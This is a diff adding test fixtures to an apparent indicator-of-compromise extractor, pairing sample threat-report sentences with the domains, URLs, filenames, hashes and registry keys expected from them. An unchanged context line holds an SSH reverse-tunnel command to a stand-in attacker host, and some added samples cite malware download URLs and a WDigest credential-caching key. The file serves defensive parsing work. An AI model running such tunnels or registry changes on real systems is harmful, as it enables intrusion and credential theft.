@@ -132,4 +132,36 @@ export const KNOWN_SENTENCES: Readonly<Record<string, readonly Sentence[]>> = {
     ['ssh -i id_rsa -R 2222:localhost:22 tunnel@host2.evil.com -p 443', 'hostname host2.evil.com'],
     ['by ssh, write to tunnel@evil.com', 'email tunnel@evil.com'],
   ],
+  'hosts in names of rules': [
+    ['2049000 - ET MALWARE Domain in TLS SNI (evil .com)', 'domain evil.com'],
+    ['ETPRO MALWARE Lookup (a-b.evil .top in DNS)', 'hostname a-b.evil.top'],
+    ['see (the .com) and (evil .com)'],
+  ],
+  'URLs before the date of the next line': [
+    [
+      '09/14 18:11 the file x.exe was loaded from hxxps://upd5[.]pro/update/antispam\n09/14 18:20 the tunnel',
+      'filename x.exe',
+      'url https://upd5.pro/update/antispam',
+    ],
+    [
+      'the file x.exe was loaded from hxxps://upd5[.]pro/updates/of/antispam/\n2024/01/31.zip',
+      'filename x.exe',
+      'url https://upd5.pro/updates/of/antispam/2024/01/31.zip',
+    ],
+  ],
+  'escaped URLs that were defanged': [['act=hxxps%3A%2F%2Fwww.exxon.co.kr%2Fx.asp&k=1', 'url https://www.exxon.co.kr/x.asp']],
+  'numbers that pin or reach somebody': [
+    ['uses: tj-actions/changed-files@0e58ed8671d6b60d0890c21b07f8835ace038e67'],
+    [`qTOX ${MD5}${MD5}`],
+    ['x@0e58ed8671d6b60d0890c21b07f8835ace038e67', 'sha1 0e58ed8671d6b60d0890c21b07f8835ace038e67'],
+  ],
+  'values behind a key': [
+    ['HKLM\\SYSTEM\\Control\\WDigest UseLogonCredential', 'regkey HKLM\\SYSTEM\\Control\\WDigest'],
+    ['HKLM\\SYSTEM\\Services\\Mesh Agent', 'regkey HKLM\\SYSTEM\\Services\\Mesh Agent'],
+  ],
+  'names between bars behind a label': [
+    ['Attachments: a.zip | rep0rt Oct.xlsm | b.pdf', 'filename a.zip', 'filename rep0rt Oct.xlsm', 'filename b.pdf'],
+    ['| Attachment: | the file x.exe |', 'filename x.exe'],
+    ['seen: a.zip | the file b.exe', 'filename a.zip', 'filename b.exe'],
+  ],
 };
